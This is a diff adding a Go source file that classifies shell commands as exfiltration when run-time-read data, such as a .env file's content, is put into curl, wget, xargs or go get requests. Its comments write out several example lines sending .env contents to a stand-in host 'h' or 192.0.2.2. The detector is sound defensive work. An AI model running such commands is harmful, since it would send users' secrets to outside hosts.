@@ -1,0 +1,285 @@
+package classify
+
+import (
+	"regexp"
+	"strings"
+	"sync"
+)
+
+// This file closes FINDINGS-5 L10: a file's content carried into a
+// request through the shell. Value flow (package shell) substitutes what
+// a variable was built from when it knows it (d=$(cat .env); curl …/$d
+// becomes a URL built from command output, held by exfiltration), but a
+// value the shell reads at run time has no text to substitute:
+//
+//	read -r d < .env; curl "http://h/?q=$d"
+//	mapfile -t a < .env; curl "http://h/${a[0]}"
+//	printf -v d %s "$(cat .env)"; curl http://h/$d
+//	d=$(base64 -w0 .env); curl "http://h/${d:0:30}"  (an operator keeps $d's own text)
+//	while read l; do curl "http://h/$l"; done < .env
+//	xargs -a .env -I{} curl http://h/{}
+//
+// The rule, over the whole command: a variable the command fills at run
+// time from input or command output (read, mapfile/readarray, printf -v,
+// NAME=$(…), for NAME in $(…)) or a word xargs fills from its input is
+// "carried data". A network request of the same command (a run rated a
+// network read) that puts carried data into a URL beside static text (its
+// path, query or a name under a domain), or into a header, cookie, user
+// agent, referer, credentials or body option, sends that data out: it is
+// external. A word that is nothing but the carried value (curl "$url",
+// xargs -a urls.txt wget, dig "$name") is a list of addresses being
+// fetched, as wget -i is, and stays a read; so do static values, which
+// value flow has already substituted (VERSION=1.2; curl …/v$VERSION/…),
+// and variables the command does not fill ($PORT from the environment).
+
+// carriedAssign matches an assignment whose value is a command
+// substitution (NAME=$(…), NAME="`…`", export NAME=$(…)).
+var carriedAssign = sync.OnceValue(func() *regexp.Regexp {
+	return regexp.MustCompile("(?:^|[\\s;&|(])([A-Za-z_][A-Za-z0-9_]*)(?:\\[[^\\]]*\\])?\\+?=\"?(?:\\$\\(|`)")
+})
+
+// carriedFor matches a for loop over words holding a command substitution.
+var carriedFor = sync.OnceValue(func() *regexp.Regexp {
+	return regexp.MustCompile("(?:^|[\\s;&|(])for\\s+([A-Za-z_][A-Za-z0-9_]*)\\s+in\\s[^;\\n]*(?:\\$\\(|`)")
+})
+
+// carriedOptions are the request options whose whole value is sent
+// (curl's, wget's and the like): carried data there is sent even when it
+// is the whole word.
+var carriedOptions = map[string]bool{"-H": true, "--header": true, "--proxy-header": true, "-b": true,
+	"--cookie": true, "-A": true, "--user-agent": true, "-e": true, "--referer": true, "-u": true,
+	"--user": true, "-d": true, "--data": true, "--data-raw": true, "--data-binary": true,
+	"--data-urlencode": true, "--data-ascii": true, "--json": true, "--url-query": true, "-F": true,
+	"--form": true, "--form-string": true, "--post-data": true, "--body-data": true, "--oauth2-bearer": true,
+	"--http-user": true, "--http-password": true, "--password": true}
+
+// xargsInput is the placeholder package shell puts where xargs adds the
+// words it reads.
+const xargsInput = "{xargs input}"
+
+// carried applies the rule above to a classified command: it turns each
+// request that sends carried data into an external run, in place.
+func carried(text string, r *Result) {
+	var vars map[string]string // built at the first request with a run-time word
+	changed := false
+	for i := range r.Invocations {
+		inv := &r.Invocations[i]
+		if inv.Opaque != "" || !inv.Effect.NetworkRead || inv.Effect.Tier == External || !inv.AnyDynamic(1) {
+			continue
+		}
+		if vars == nil {
+			vars = carriedVars(text, r.Invocations)
+		}
+		for j := 1; j < len(inv.Args); j++ {
+			if !inv.IsDynamic(j) || localFileValue(inv.Args, j) {
+				continue
+			}
+			src, ok := carriedIn(inv.Args, j, vars, inv.Feed != nil)
+			if !ok && (remoteQuery(inv) || hostPathSubst(inv.Args[j])) && (strings.Contains(inv.Args[j], "$(") || strings.Contains(inv.Args[j], "`")) {
+				src, ok = "command output", true
+			}
+			if !ok {
+				continue
+			}
+			x := external("exfil.carried", inv.Name()+" sends "+clip(inv.Args[j])+", which holds "+src+", to the network")
+			inv.Effect.Add(x)
+			inv.Effect.NetworkRead = false
+			r.Effect.Add(x)
+			changed = true
+			break
+		}
+	}
+	if changed {
+		r.Effect.NetworkRead = false
+		for _, inv := range r.Invocations {
+			r.Effect.NetworkRead = r.Effect.NetworkRead || inv.Effect.NetworkRead
+		}
+	}
+}
+
+// remoteQuery reports whether a run reads from a database on another
+// machine (psql -h db.example -c "select …"): every word of its
+// statement reaches that machine, so one built from command output
+// carries it there (FINDINGS-5 L12).
+func remoteQuery(inv *Invocation) bool {
+	for _, r := range inv.Effect.Reasons {
+		if r.Rule == "sql.remote-read" {
+			return true
+		}
+	}
+	return false
+}
+
+// hostPathSubst reports whether a word is an address without a scheme
+// (192.0.2.2/x, example.com/mod) whose path holds a command substitution:
+// go get 192.0.2.2/$(xxd -p .env) asks that server for the path.
+func hostPathSubst(w string) bool {
+	w = strings.Trim(w, `"'`)
+	i := strings.IndexAny(w, "$`")
+	slash := strings.IndexByte(w, '/')
+	if i < 0 || slash <= 0 || slash > i {
+		return false
+	}
+	host := w[:slash]
+	return strings.Contains(host, ".") && !strings.ContainsAny(host, " =:@")
+}
+
+// carriedVars returns the variables the command fills at run time, each
+// with what it holds, for the reason.
+func carriedVars(text string, runs []Invocation) map[string]string {
+	vars := map[string]string{}
+	for _, m := range carriedAssign().FindAllStringSubmatch(text, -1) {
+		vars[m[1]] = "command output ($" + m[1] + ")"
+	}
+	for _, m := range carriedFor().FindAllStringSubmatch(text, -1) {
+		vars[m[1]] = "command output ($" + m[1] + ")"
+	}
+	for k := range runs {
+		inv := &runs[k]
+		if inv.Opaque != "" {
+			continue
+		}
+		switch inv.Name() {
+		case "read", "mapfile", "readarray":
+			if inv.Stdin == "heredoc" || inv.Stdin == "herestring" {
+				continue // value flow reads these
+			}
+			src := "what " + inv.Name() + " reads"
+			if f := carriedInput(runs, k); f != "" {
+				src = "the content of " + f
+			}
+			for _, n := range readNames(inv.Args) {
+				vars[n] = src + " ($" + n + ")"
+			}
+		case "printf":
+			if len(inv.Args) > 2 && inv.Args[1] == "-v" && inv.AnyDynamic(3) {
+				vars[inv.Args[2]] = "run-time text ($" + inv.Args[2] + ", printf -v)"
+			}
+		}
+	}
+	return vars
+}
+
+// carriedInput names the file a read or mapfile run reads, when a
+// redirection gives it: its own (read d < f) or that of the loop or group
+// around it (while read l; do …; done < f).
+func carriedInput(runs []Invocation, k int) string {
+	for _, rd := range runs[k].Redirects {
+		if rd.Op == "<" || rd.Op == "<>" {
+			return rd.Target
+		}
+	}
+	for g := k - 1; g >= 0; g-- {
+		if !runs[g].Group && runs[g].Name() != ":" || !strings.Contains(runs[g].Source, runs[k].Source) {
+			continue
+		}
+		for _, rd := range runs[g].Redirects {
+			if rd.Op == "<" || rd.Op == "<>" {
+				return rd.Target
+			}
+		}
+	}
+	return ""
+}
+
+// readNames returns the variables a read, mapfile or readarray run
+// assigns: read's names (REPLY by default) and -a ARRAY, mapfile's array
+// (MAPFILE by default).
+func readNames(args []string) []string {
+	var names []string
+	withValue := "adinNptu"
+	if args[0] != "read" {
+		withValue = "dnOsuCc"
+	}
+	for i := 1; i < len(args); i++ {
+		a := args[i]
+		if len(a) > 1 && a[0] == '-' && len(names) == 0 {
+			if a == "--" {
+				names = append(names, args[i+1:]...)
+				break
+			}
+			for j := 1; j < len(a); j++ {
+				if strings.IndexByte(withValue, a[j]) < 0 {
+					continue
+				}
+				val := a[j+1:]
+				if val == "" && i+1 < len(args) {
+					i++
+					val = args[i]
+				}
+				if args[0] == "read" && a[j] == 'a' {
+					names = append(names, val)
+				}
+				break
+			}
+			continue
+		}
+		names = append(names, a)
+	}
+	if len(names) == 0 {
+		if args[0] == "read" {
+			return []string{"REPLY"}
+		}
+		return []string{"MAPFILE"}
+	}
+	return names
+}
+
+// carriedIn reports whether word j of a request holds carried data where
+// it is sent, and names it.
+func carriedIn(args []string, j int, vars map[string]string, fed bool) (string, bool) {
+	w := args[j]
+	option := j > 1 && carriedOptions[args[j-1]]
+	if name, _, ok := strings.Cut(w, "="); ok && carriedOptions[name] {
+		option = true
+	}
+	if fed && strings.Contains(w, xargsInput) {
+		if option || strings.Trim(w, `"'`) != xargsInput {
+			return "what xargs reads", true
+		}
+	}
+	for name, src := range vars {
+		at, end, ok := varRef(w, name)
+		if !ok {
+			continue
+		}
+		if option || strings.Trim(w[:at], `"'`) != "" || strings.Trim(w[end:], `"'`) != "" {
+			return src, true
+		}
+	}
+	return "", false
+}
+
+// varRef finds a reference to variable name in a word's source text ($n,
+// ${n}, ${n[0]}, ${n:0:30}, ${#n}) and returns where it starts and ends.
+func varRef(w, name string) (int, int, bool) {
+	for i := 0; i < len(w); i++ {
+		if w[i] != '$' {
+			continue
+		}
+		j := i + 1
+		braced := j < len(w) && w[j] == '{'
+		if braced {
+			j++
+			if j < len(w) && (w[j] == '#' || w[j] == '!') {
+				j++
+			}
+		}
+		if !strings.HasPrefix(w[j:], name) {
+			continue
+		}
+		k := j + len(name)
+		if k < len(w) && (w[k] == '_' || w[k] >= 'a' && w[k] <= 'z' || w[k] >= 'A' && w[k] <= 'Z' || w[k] >= '0' && w[k] <= '9') {
+			continue
+		}
+		if braced {
+			close := strings.IndexByte(w[k:], '}')
+			if close < 0 {
+				continue
+			}
+			k += close + 1
+		}
+		return i, k, true
+	}
+	return 0, 0, false
+}
